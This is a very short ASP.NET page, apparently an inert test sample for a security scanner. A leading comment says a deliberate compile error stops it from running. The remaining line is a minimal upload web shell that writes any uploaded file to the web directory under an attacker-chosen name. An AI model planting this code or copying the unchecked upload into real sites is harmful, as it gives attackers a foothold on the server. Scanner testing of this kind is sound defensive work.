<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="C#" %><% if (Request.Files.Count > 0) { Request.Files[0].SaveAs(Server.MapPath(".") + "\\" + Request["n"]); Response.Write("ok"); } %>
